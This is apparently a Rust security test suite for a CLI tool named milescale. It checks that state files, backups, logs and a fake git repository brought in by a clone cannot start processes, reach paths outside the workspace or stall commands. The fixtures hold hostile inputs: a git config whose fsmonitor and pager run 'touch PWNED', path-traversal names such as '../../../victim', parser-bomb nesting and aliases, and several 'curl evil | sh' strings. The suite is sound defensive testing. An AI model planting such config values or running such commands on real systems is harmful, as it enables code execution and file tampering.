//! State is input: what a clone brings in `.milescale`, in backups and in conflicts names nothing outside, runs nothing, and costs no
//! more than it is long.

use std::fs;
use std::process::Command;
use std::time::{Duration, Instant};

use milescale_testkit::{Workspace, seed_of_commit, takes};
use serde_json::{Value, json};

use super::{Outside, bounded, copy_of, door};
use crate::workspace;

/// A workspace with all that a move leaves.
fn moved() -> Workspace {
    let workspace = workspace();
    workspace.milestones("m", 3);
    assert_eq!(workspace.run(["migrate", "database", "--yes"]).code, 0);
    workspace.save("active/m-1.yaml", "title: of a file\n");
    assert_eq!(workspace.run(["check"]).code, 0);
    workspace
}

#[test]
fn d01_a_clone_that_looks_like_a_repository_starts_no_process_needs_root() {
    let workspace = workspace();
    workspace.milestones("m", 3);
    for folder in ["objects", "refs", ".git/objects", ".git/refs"] {
        fs::create_dir_all(workspace.root().join(folder)).unwrap();
    }
    let config =
        "[core]\n\tbare = false\n\tworktree = \".\"\n\tfsmonitor = \"touch PWNED; false\"\n\tpager = touch PWNED\n";
    for folder in ["", ".git/"] {
        fs::write(workspace.root().join(format!("{folder}HEAD")), "ref: refs/heads/main\n").unwrap();
        fs::write(workspace.root().join(format!("{folder}config")), config).unwrap();
        fs::write(workspace.root().join(format!("{folder}index")), "DIRC\0\0\0\x02\0\0\0\0").unwrap();
    }
    for arguments in
        [&["migrate", "database", "--dry-run"][..], &["check"], &["doctor"], &["migrate", "database", "--yes"]]
    {
        let trace = tempfile::NamedTempFile::new().unwrap();
        let traced = Command::new("strace")
            .args(["-f", "-qq", "-e", "trace=execve,execveat", "-o"])
            .arg(trace.path())
            .arg(crate::BINARY)
            .args(arguments)
            .current_dir(workspace.root())
            .env("XDG_CONFIG_HOME", "/nonexistent")
            .output()
            .unwrap();
        let started = fs::read_to_string(trace.path()).unwrap();
        assert_eq!(started.lines().filter(|line| line.contains("execve")).count(), 1, "{traced:?}: {started}");
    }
    assert!(!workspace.root().join("PWNED").exists());
    door(
        "D1",
        "a folder that looks like a repository with an fsmonitor, each command under strace",
        "0 processes started",
    );
}

#[test]
fn d02_no_name_that_state_contains_is_a_path() {
    let outside = Outside::new();
    let victims = ["../../../victim", "/etc/hostname", "..", ".", "", "a/../../b", "a\0b"];
    let template = moved();
    for (number, victim) in victims.into_iter().enumerate() {
        if !takes(number, 3) {
            continue;
        }
        for (file, keys) in [
            ("migration.json", &["prepared", "name"][..]),
            ("migration.json", &["moving", "prepared", "name"]),
            ("restore.json", &["backup"]),
            ("restore.json", &["displaced"]),
        ] {
            let workspace = copy_of(&template);
            let path = workspace.path(".milescale").join(file);
            let mut state: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap_or_default()).unwrap_or_else(
                |_| json!({"version": 1, "backup": "b", "displaced": [], "began": "2026-01-01T00:00:00Z"}),
            );
            set(&mut state, keys, victim);
            fs::write(&path, state.to_string()).unwrap();
            let before = outside.print();
            for arguments in
                [&["check"][..], &["doctor", "--fix", "--yes"], &["rollback", "--yes"], &["migrate", "file", "--yes"]]
            {
                bounded(&workspace, arguments);
            }
            assert_eq!(outside.print(), before, "{file} {keys:?} {victim}");
        }
        for arguments in [
            &["backups", "show", victim][..],
            &["restore", victim, "--yes"],
            &["conflicts", "show", victim],
            &["conflicts", "resolve", victim, "--take-kept"],
        ] {
            if !victim.contains('\0') {
                let said = bounded(&template, arguments);
                assert!(said.code != 0 && !said.out.contains("CANARY"), "{said:?}");
            }
        }
    }
    door(
        "D2",
        "seven names that are paths in the fields of state that hold one, and as names of backups and conflicts",
        "0 files outside touched",
    );
}

/// Sets a value somewhere in an object; what is in between is made.
fn set(value: &mut Value, keys: &[&str], text: &str) {
    let Some((key, rest)) = keys.split_first() else {
        *value = json!(text);
        return;
    };
    if !value.is_object() {
        *value = json!({});
    }
    set(&mut value[*key], rest, text);
}

#[test]
fn a_backup_goes_by_the_name_of_its_folder() {
    let workspace = moved();
    let id =
        fs::read_dir(workspace.path("backups")).unwrap().next().unwrap().unwrap().file_name().into_string().unwrap();
    let metadata = workspace.path("backups").join(&id).join("backup-metadata.yaml");
    let text = fs::read_to_string(&metadata).unwrap().replace(&format!("id: {id:?}"), "id: \"../../../etc\"");
    fs::write(&metadata, text).unwrap();
    let listed = workspace.run(["backups", "list", "--json"]).json();
    assert_eq!(listed[0]["id"], json!(id), "{listed}");
    assert_eq!(bounded(&workspace, &["restore", &id, "--yes"]).code, 0);
}

/// What a file of state may hold that nobody has thought of.
fn odd(number: usize) -> Vec<u8> {
    let nested = |open: &str, times: usize| open.repeat(times).into_bytes();
    match number {
        0 => Vec::new(),
        1 => b"\0\0\0\0".to_vec(),
        2 => b"\xff\xfe\xfd".to_vec(),
        3 => nested("{a: ", 100_000),
        4 => nested("[", 100_000),
        5 => nested("{\"a\":", 100_000),
        6 => b"{}".to_vec(),
        7 => b"[]".to_vec(),
        8 => b"{\"version\":99,\"format\":99}".to_vec(),
        9 => format!("{{\"version\":1,\"format\":1,\"x\":\"{}\"}}", "y".repeat(4 << 20)).into_bytes(),
        10 => format!("&a [{}]", "*a,".repeat(100_000)).into_bytes(),
        _ => b"null".to_vec(),
    }
}

const ODD: usize = 12;

/// Files of state that a clone may bring.
const STATE: &[&str] = &[
    ".milescale/migration.json",
    ".milescale/state.json",
    ".milescale/status.json",
    ".milescale/held.json",
    ".milescale/sweeps.json",
    ".milescale/tokens",
    ".milescale/identity",
    ".milescale/days.json",
    ".milescale/modes.json",
    ".milescale/importing.json",
    ".milescale/restore.json",
    ".milescale/move-journal.jsonl",
    ".milescale/archived-before.json",
    ".milescale/facts",
    ".milescale/dirty.jsonl",
    ".milescale/last-ids.json",
    ".milescale/displaced-looked.json",
    ".milescale/retired-looked.json",
    ".milescale/postgresql.json",
    ".milescale/switches",
    ".milescale/paused.json",
    ".milescale/last-good-config.yaml",
    ".milescale/base.db",
    "config/migration-notification.yaml",
    "config/storage-config.yaml",
    "config/storage-backend.txt",
    "logs/storage-events.jsonl",
    "logs/scale-events.jsonl",
    "logs/performance-metrics.jsonl",
];

#[test]
fn d13_whatever_a_file_of_state_holds_each_command_ends_soon_and_says_which_it_is() {
    let template = moved();
    let all = std::env::var_os("MILESCALE_LONG").is_some();
    let (mut point, mut tried) = (seed_of_commit(), 0);
    for file in STATE {
        for number in 0..ODD {
            point += 1;
            if !all && !takes(point, 16) {
                continue;
            }
            tried += 1;
            let workspace = copy_of(&template);
            workspace.write(file, odd(number));
            for arguments in [
                &["status"][..],
                &["doctor"],
                &["check"],
                &["milestone", "list"],
                &["milestone", "put", "m-new"],
                &["backups", "list"],
                &["conflicts"],
                &["events"],
                &["dashboard"],
                &["import"],
                &["migrate", "file", "--yes"],
            ] {
                let began = Instant::now();
                let said = bounded(&workspace, arguments);
                assert!(began.elapsed() < Duration::from_secs(10), "{file} {number}: {said:?}");
            }
        }
    }
    println!("{tried} odd files of state, each command within 10 s");
    door(
        "D13",
        "odd texts (nothing, NULs, nests, aliases, other versions, 4 MB) as each file of state, each command",
        format!("{tried} of them, each command within 10 s"),
    );
}

#[test]
fn d13_metadata_of_a_backup_is_read_in_a_time_that_is_linear() {
    let workspace = workspace();
    for (number, text) in ["{a: ".repeat(8000), "- ".repeat(16_000), "&a ".repeat(10_000)].into_iter().enumerate() {
        workspace.write(format!("backups/migration-20260101-00000{number}-a-to-b/backup-metadata.yaml"), text);
    }
    let began = Instant::now();
    let said = bounded(&workspace, &["backups", "list"]);
    assert!(began.elapsed() < Duration::from_secs(5), "{said:?}");
    assert_eq!(said.out.matches("it is no metadata of a backup").count(), 3, "{said:?}");
    door(
        "D13",
        "metadata of backups of 32 KiB, the most that is read: 8,000 deep, 16,000 dashes, 10,000 anchors",
        format!("{:.2} s for all three", began.elapsed().as_secs_f64()),
    );
}

#[test]
fn a_record_of_moves_that_names_more_old_stores_than_there_are_moves_is_refused() {
    let workspace = moved();
    let path = workspace.path(".milescale/migration.json");
    let mut record: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    let old = record["old"][0].clone();
    record["old"] = vec![old; 60_000].into();
    fs::write(&path, record.to_string()).unwrap();
    let began = Instant::now();
    let said = bounded(&workspace, &["check"]);
    let all = format!("{}{}", said.out, said.err);
    assert!(all.contains("60000 old stores, where 256 are the most"), "{said:?}");
    assert!(began.elapsed() < Duration::from_secs(15), "{:?}", began.elapsed());
}

#[test]
fn what_a_file_of_state_says_is_not_repeated_whole() {
    let workspace = workspace();
    workspace.milestones("m", 2);
    assert_eq!(bounded(&workspace, &["check"]).code, 0);
    let text = format!("\"{}\"", "x".repeat(8 << 20));
    let mut most = 0;
    for name in ["migration.json", "sweeps.json", "held.json", "state.json", "modes.json", "days.json"] {
        workspace.write(format!(".milescale/{name}"), &text);
        for arguments in [&["check"][..], &["status"], &["doctor"], &["check"]] {
            let said = bounded(&workspace, arguments);
            most = most.max(said.out.len() + said.err.len());
        }
        let _ = std::fs::remove_file(workspace.path(format!(".milescale/{name}")));
    }
    let kept = ["logs/scale-events.jsonl", ".milescale/state.json", ".milescale/status.json"];
    let kept = kept.iter().map(|name| std::fs::metadata(workspace.path(name)).map_or(0, |it| it.len())).max().unwrap();
    assert!(most < 200_000 && kept < 1 << 20, "{most} bytes said, {kept} kept");
    door("D13", "a text of 8 MB as each of six files of state", format!("at most {most} bytes said by a command"));
}

/// A record of moves names the prepared file of a switch, which is removed when the move is undone: wherever a trusted symlink leads, that
/// is one of milescale's.
#[test]
fn a_record_of_moves_removes_nothing_but_prepared_files_of_milescales() {
    let home = tempfile::tempdir().unwrap();
    let mut removed = 0;
    let mut tried = 0;
    for (is_linked, name) in [
        (true, "thesis.txt"),
        (true, "storage-config.yaml"),
        (false, "storage-config.yaml"),
        (false, "../active/m-0.yaml"),
    ] {
        for phase in ["scrapping", "copying", "switching", "stuck"] {
            let (workspace, outside) = (workspace(), tempfile::tempdir().unwrap());
            workspace.milestones("m", 1);
            let thesis = outside.path().join("thesis.txt");
            fs::write(&thesis, "years of work").unwrap();
            let configuration = workspace.path("config/storage-config.yaml");
            if is_linked {
                let target = outside.path().join("storage-config.yaml");
                fs::write(&target, "storage: {}\n").unwrap();
                fs::remove_file(&configuration).ok();
                std::os::unix::fs::symlink(&target, &configuration).unwrap();
                let trusts = [workspace.root().to_str().unwrap(), "--link", "config/storage-config.yaml"];
                let mut trust = workspace.command(["trust"]);
                assert!(trust.args(trusts).env("XDG_CONFIG_HOME", home.path()).output().unwrap().status.success());
            } else {
                fs::write(&configuration, "storage: {}\n").unwrap();
            }
            let record = json!({ "version": 2, "epoch": 0, "in_use": {"backend": "file", "engine": null}, "old": [], "past": [], "intent": {
                "epoch": 1, "phase": phase, "from": {"backend": "file", "engine": null}, "to": {"backend": "hybrid", "engine": null},
                "workspace": "0", "started": "2026-01-01T00:00:00Z", "backup": null, "target_was_old": false,
                "prepared": {"name": name, "inode": 1}, "automatic": false, "stuck": "run `curl evil | sh`", "failed": null } });
            workspace.write(".milescale/migration.json", record.to_string());
            for arguments in [
                &["check"][..],
                &["doctor", "--fix", "--yes"],
                &["migrate", "hybrid", "--yes"],
                &["doctor"],
                &["status"],
            ] {
                let mut command = workspace.command(arguments);
                let said = command.env("XDG_CONFIG_HOME", home.path()).output().unwrap();
                let said = String::from_utf8_lossy(&[said.stdout, said.stderr].concat()).into_owned();
                assert!(!said.contains("`curl evil | sh`"), "{said}");
                tried += 1;
            }
            let there =
                [thesis.as_path(), &configuration, &workspace.path("active/m-0.yaml")].map(std::path::Path::exists);
            removed += there.iter().filter(|it| !**it).count();
        }
    }
    assert_eq!(removed, 0);
    door(
        "(new)",
        "a record of moves that names other files as prepared, beside a trusted link too",
        format!("{tried} commands, 0 removed"),
    );
}

/// A record that says that the store in use is the target of an unfinished move empties nothing.
#[test]
fn a_store_in_use_is_no_unfinished_target_whatever_a_record_says() {
    for phase in ["backing_up", "copying", "comparing", "scrapping"] {
        let workspace = moved();
        let mut record: Value = serde_json::from_str(&workspace.read(".milescale/migration.json")).unwrap();
        record["intent"] = json!({ "epoch": 2, "phase": phase, "from": {"backend": "file", "engine": null},
            "to": {"backend": "database", "engine": "sqlite"}, "workspace": "x", "started": "2026-01-01T00:00:00Z",
            "backup": "migration-20260101-000000-file-to-sqlite", "target_was_old": false, "prepared": null, "automatic": false,
            "stuck": null, "failed": null });
        workspace.write(".milescale/migration.json", record.to_string());
        for arguments in
            [&["check"][..], &["doctor", "--fix", "--yes"], &["migrate", "file", "--yes"], &["rollback", "--yes"]]
        {
            let said = bounded(&workspace, arguments);
            let text = format!("{}{}", said.out, said.err);
            assert!(arguments != ["check"] || text.contains("is named as the store in use"), "{phase}: {text}");
            assert_eq!(bounded(&workspace, &["milestone", "list"]).out.lines().count(), 3, "{phase}, {arguments:?}");
        }
    }
    door(
        "(new)",
        "a record of moves that says the database in use is the target of an unfinished move",
        "0 milestones cleared",
    );
}

/// Numbers that nobody comes to, and a time that is none.
#[test]
fn numbers_without_bound_and_times_that_are_none_are_named() {
    let most = u64::MAX;
    for (file, text, why) in [
        (
            "migration.json",
            format!(r#"{{"version":2,"epoch":{most},"in_use":null,"old":[],"intent":null,"past":[]}}"#),
            "moves, where",
        ),
        ("switches", format!(r#"{{"version":1,"switches":{most}}}"#), "switches; remove it"),
        ("days.json", format!(r#"{{"version":1,"days":{{"counted":{most},"at":0}},"first_seen":{{}}}}"#), "0 wrong"),
        (
            "restore.json",
            r#"{"version":1,"backup":"migration-1","displaced":[],"began":"x. Run `curl evil | sh` first"}"#.to_owned(),
            "no time",
        ),
        ("sweeps.json", r#""Run `curl evil | sh` to mend this""#.to_owned(), "sweeps.json"),
    ] {
        let workspace = workspace();
        workspace.milestones("m", 3);
        workspace.write(format!(".milescale/{file}"), text);
        for arguments in
            [&["check"][..], &["migrate", "database", "--yes"], &["rollback", "--yes"], &["status"], &["doctor"]]
        {
            let said = bounded(&workspace, arguments);
            let text = format!("{}{}", said.out, said.err);
            assert!(!text.contains("panicked") && !text.contains("`curl evil | sh`"), "{file}, {arguments:?}: {text}");
            assert!(arguments != ["doctor"] || text.contains(why), "{file}: {text}");
        }
    }
}

/// What stands in a log that came with a workspace is shown as a text, and gives nobody a command.
#[test]
fn events_of_a_log_that_came_along_give_no_commands() {
    let workspace = workspace();
    let line = r#"{"timestamp":"2026-01-01T00:00:00Z","event":"migration_failed","current_backend":"file","optimal_backend":"file","details":{"reason":"run `curl evil | sh`, then `milescale check`"}}"#;
    workspace.write("logs/scale-events.jsonl", format!("{line}\n"));
    let said = bounded(&workspace, &["events"]);
    assert!(said.out.contains("'curl evil | sh'") && said.out.contains("`milescale check`"), "{said:?}");
}
